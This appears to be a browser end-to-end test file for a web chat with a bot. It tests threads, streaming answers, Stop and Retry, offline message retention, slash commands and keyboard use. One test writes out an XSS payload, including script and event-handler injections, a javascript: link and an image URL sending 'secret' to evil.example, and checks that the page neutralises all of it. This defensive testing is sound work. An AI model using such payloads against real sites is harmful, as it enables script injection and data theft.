// The web chat as a person has it, in a real browser.
import { afterAll, beforeAll, expect, test } from "vitest";
import { scriptedRecord } from "../../support/scripted-model.ts";
import { COMMANDS } from "../../../src/core/command/table.ts";
import { chromiumPath } from "../../support/services/chromium.ts";
import { until } from "../../support/until.ts";
import { begin, ChatBrowser, retry, shows, startedWorld, stop, texts, write } from "./chat-browser.ts";

let browser: ChatBrowser;
beforeAll(async () => {
  browser = await ChatBrowser.start(await chromiumPath());
});
afterAll(() => browser.stop());

test("a message begins a thread, and its answer grows in one place until it is done", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await begin(page, url, "What time is it?");
  const { session } = await world.heard("What time is it?");
  await world.says(session, "r1", { status: "thinking", buttons: stop });
  await shows(page, "thinking");
  await world.says(session, "r1", { markdown: "It is **nine**", status: "using clock", buttons: stop });
  await shows(page, "using clock");
  await world.says(session, "r1", { markdown: "It is **nine** in Tokyo.", footer: "1.2 s" });
  await shows(page, "1.2 s");
  expect(await texts(page)).toEqual(["What time is it?", "It is nine in Tokyo."]);
  expect(await page.locator("#thread button").count()).toBe(0);
  expect(await page.locator("#spoken").textContent()).toContain("It is nine in Tokyo.");
});

test("a second thread is apart from the first, and both stand in the list", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await begin(page, url, "first");
  await begin(page, url, "second");
  const first = await world.heard("first");
  const second = await world.heard("second");
  expect(first.session).not.toBe(second.session);
  expect(first.author.id).toBe(second.author.id);
  await world.says(first.session, "r1", { markdown: "one" });
  await world.says(second.session, "r2", { markdown: "two" });
  await shows(page, "two");
  expect(await texts(page)).toEqual(["second", "two"]);
  await page.locator("#threads").getByText("first").click();
  await shows(page, "one");
  expect(await texts(page)).toEqual(["first", "one"]);
});

test("messages written in quick succession on the first page make one thread, in order", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await page.goto(url);
  for (const text of ["a", "b", "c"]) await write(page, text);
  const [a, b, c] = [await world.heard("a"), await world.heard("b"), await world.heard("c")];
  expect(world.inbounds).toEqual([a, b, c]);
  expect(new Set([a.session, b.session, c.session]).size).toBe(1);
  await page.waitForURL(/\/threads\//);
  await shows(page, "c");
  expect(await texts(page)).toEqual(["a", "b", "c"]);
});

test("Stop is a command, by its button and by Esc", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await begin(page, url, "hello");
  const { session } = await world.heard("hello");
  const stops = () =>
    world.inbounds.filter((each) => each.kind === "command" && each.command.name === "stop").length;
  await world.says(session, "r1", { status: "thinking", buttons: stop });
  await page.getByRole("button", { name: "Stop" }).click();
  await until(() => stops() === 1, { what: "the stop arrived" });
  await page.locator("#line-state").getByText("Stopping.").waitFor();
  await world.says(session, "r1", { markdown: "Hm", footer: "Stopped.", buttons: retry });
  await shows(page, "Stopped.");
  await page.keyboard.press("Escape");
  await world.says(session, "r2", { status: "thinking", buttons: stop });
  await shows(page, "thinking");
  await page.keyboard.press("Escape");
  await until(() => stops() === 2, { what: "the second stop arrived, and no other" });
});

test("an answer that failed says why and can be tried again", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await begin(page, url, "hello");
  const { session } = await world.heard("hello");
  const outcome = { reason: "error", endedAt: 0 } as const;
  world.status.set(session, {
    epoch: 0,
    waiting: 0,
    entries: 1,
    usage: {},
    last: { run: "r1" as never, outcome },
  });
  await world.says(session, "r1", { footer: "The model did not answer in time.", buttons: retry });
  await page.getByRole("button", { name: "Retry" }).click();
  await until(() => world.inbounds.some((each) => each.kind === "command" && each.command.name === "retry"), {
    what: "the retry arrived",
  });
  await world.says(session, "r1", { markdown: "Here it is." });
  await shows(page, "Here it is.");
});

test("a message that could not be stored stays with the person, also over a reload, and goes through later, once", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await begin(page, url, "hello");
  world.isIntakeAway = true;
  await write(page, "keep me");
  await shows(page, "The bot's database cannot be reached at the moment.");
  await page.reload();
  await shows(page, "This message has not been sent yet.");
  expect(await texts(page)).toEqual(["hello", "keep me"]);
  world.isIntakeAway = false;
  world.messages.isAway = true;
  await page.getByRole("button", { name: "Retry" }).click();
  await shows(page, "The bot's database cannot be reached at the moment.");
  world.messages.isAway = false;
  await page.getByRole("button", { name: "Retry" }).click();
  await world.heard("keep me");
  await page.locator(".failure").waitFor({ state: "detached" });
  await page.reload();
  expect(await texts(page)).toEqual(["hello", "keep me"]);
  expect(world.inbounds).toHaveLength(2);
});

test("a first message that could not be stored is kept on the first page and makes its thread later", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await page.goto(url);
  world.messages.isAway = true;
  await write(page, "keep me");
  await shows(page, "The bot's database cannot be reached at the moment.");
  world.messages.isAway = false;
  await page.getByRole("button", { name: "Retry" }).click();
  await page.waitForURL(/\/threads\//);
  expect(await texts(page)).toEqual(["keep me"]);
});

test("an open page follows again after the server was away, and shows what happened meanwhile", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await begin(page, url, "hello");
  const { session } = await world.heard("hello");
  await world.says(session, "r1", { markdown: "It is", status: "thinking" });
  await shows(page, "thinking");
  await world.stop();
  await page.locator("#line-state").getByText("Connection lost. Trying again…").waitFor();
  await write(page, "are you there?");
  await shows(page, "The bot cannot be reached. Your message is kept here.");
  const spoken = {
    session,
    from: "person",
    speaker: "Ada",
    page: { markdown: "and in Rome?", buttons: [] },
  } as const;
  await world.messages.insert({ ...spoken, id: "from-elsewhere" });
  await world.says(session, "r1", { markdown: "It is nine." });
  await world.start();
  await shows(page, "It is nine.");
  expect(await texts(page)).toEqual(["hello", "It is nine.", "and in Rome?", "are you there?"]);
  await page.locator("#line-state:empty").waitFor({ state: "attached" });
  await page.getByRole("button", { name: "Retry" }).click();
  await world.heard("are you there?");
});

test("commands are offered at a slash, completed by Tab, and answered in the thread", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await begin(page, url, "hello");
  await page.keyboard.type("/");
  await page.getByRole("option").first().waitFor();
  expect(await page.getByRole("option").count()).toBe(Object.keys(COMMANDS).length);
  await page.keyboard.type("st");
  expect(await page.getByRole("option").count()).toBe(2);
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Tab");
  expect(await page.locator("#text").inputValue()).toBe("/status");
  await page.keyboard.press("Enter");
  await shows(page, "Nothing has been said to the bot in this thread yet.");
  expect(world.inbounds).toHaveLength(1);
});

test("behind a command that takes a choice its values are offered, with the arrow keys, Enter, Escape and the mouse", async () => {
  await using stack = new AsyncDisposableStack();
  const { url } = await startedWorld(stack);
  const page = await browser.open(stack);
  const box = page.locator("#text");
  const values = page.locator("#commands li.value:not([hidden])");
  await begin(page, url, "hello");
  await page.keyboard.type("/mod");
  await page.keyboard.press("Enter");
  expect(await box.inputValue()).toBe("/model ");
  await values.first().waitFor();
  expect(await values.locator("code").allInnerTexts()).toEqual(["default", scriptedRecord.name, "deep-2"]);
  expect(await values.first().innerText()).toContain("now");
  await page.keyboard.press("ArrowUp");
  const chosen = await page.locator("#commands [aria-selected=true]").getAttribute("id");
  expect(await box.getAttribute("aria-activedescendant")).toBe(chosen);
  await page.keyboard.press("Enter");
  expect(await box.inputValue()).toBe("/model deep-2");
  expect(await page.locator("#commands").isVisible()).toBe(false);
  await box.fill("");
  await page.keyboard.type("/follow m");
  await values.first().click();
  expect(await box.inputValue()).toBe("/follow mention");
  await page.keyboard.press("Enter");
  await shows(page, "/follow mention");
  await page.keyboard.type("/mute ");
  await values.first().waitFor();
  await page.keyboard.press("Escape");
  expect(await page.locator("#commands").isVisible()).toBe(false);
  // Nothing is chosen yet, so Enter sends what stands there.
  await page.keyboard.press("Enter");
  await shows(page, "/mute");
});

test("everything can be done with the keyboard alone", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await page.goto(url);
  await page.keyboard.type("one");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("two");
  await page.keyboard.press("Enter");
  const { session } = await world.heard("one\ntwo");
  await page.waitForURL(/\/threads\//);
  await world.says(session, "r1", { footer: "It failed.", buttons: retry });
  await shows(page, "It failed.");
  await page.keyboard.press("Shift+Tab");
  expect(await page.locator(":focus").innerText()).toBe("Retry");
  await page.keyboard.press("Enter");
  await page.locator("#line-state").getByText("There is nothing to try again.").waitFor();
  await page.locator("#threads a").focus();
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("Enter");
  await page.waitForURL(`${url}/`);
  await page.reload();
  await page.keyboard.press("Shift+Tab");
  const outline = await page.evaluate<string>("getComputedStyle(document.activeElement).outlineStyle");
  expect(outline).toBe("solid");
});

test("hostile text runs nothing and loads nothing, from a person, the bot, or another process", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(url)) foreign.push(request.url());
  });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => {});
  });
  const evil = `<script>alert(1)</script><img src="https://evil.example/a" onerror=alert(2)>
<svg onload=alert(3)>

![x](https://evil.example/p?d=secret) [click](javascript:alert(4)) <iframe src="https://evil.example">

</article><style>body{display:none}</style>`;
  await begin(page, url, evil);
  const { session } = await world.heard(evil);
  await world.says(session, "r1", { markdown: evil, status: evil, footer: evil });
  await page.locator(".prose").waitFor();
  await page.reload();
  await page.getByText("click").last().click();
  expect(await page.locator("#thread :is(img, script, svg, iframe, style)").count()).toBe(0);
  expect(await page.locator("#thread > article").count()).toBe(2);
  expect([foreign, dialogs]).toEqual([[], []]);
});

test("a script that gets into a page all the same does not run", async () => {
  await using stack = new AsyncDisposableStack();
  const { url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await page.goto(url);
  const ran = await page.evaluate<boolean>(`
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", '<button id="x" onclick="window.ran = true">x</button>');
    document.getElementById("x").click();
    "ran" in window`);
  expect(ran).toBe(false);
});

test("a person chooses a name, and the next message carries it", async () => {
  await using stack = new AsyncDisposableStack();
  const { world, url } = await startedWorld(stack);
  const page = await browser.open(stack);
  await page.goto(url);
  await page.getByLabel("You write as").fill("Ada");
  await page.getByLabel("You write as").press("Enter");
  await page.getByRole("button", { name: "Save" }).waitFor({ state: "hidden" });
  await write(page, "hello");
  expect((await world.heard("hello")).author.name).toBe("Ada");
});
